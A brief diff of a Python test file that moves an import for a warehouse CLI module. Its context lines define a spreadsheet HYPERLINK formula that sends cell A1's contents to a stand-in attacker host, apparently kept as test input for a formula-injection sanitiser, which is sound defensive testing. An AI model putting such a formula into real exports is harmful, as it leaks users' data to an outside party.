@@ -10,7 +10,7 @@ import json
 
 import pytest
 
-from ox_bb_pipeline.warehouse.cli import query
+from ox_bb_pipeline.app.warehouse_cli import query
 from ox_bb_pipeline.warehouse.report import FORMULA_STARTS, spreadsheet_safe
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'
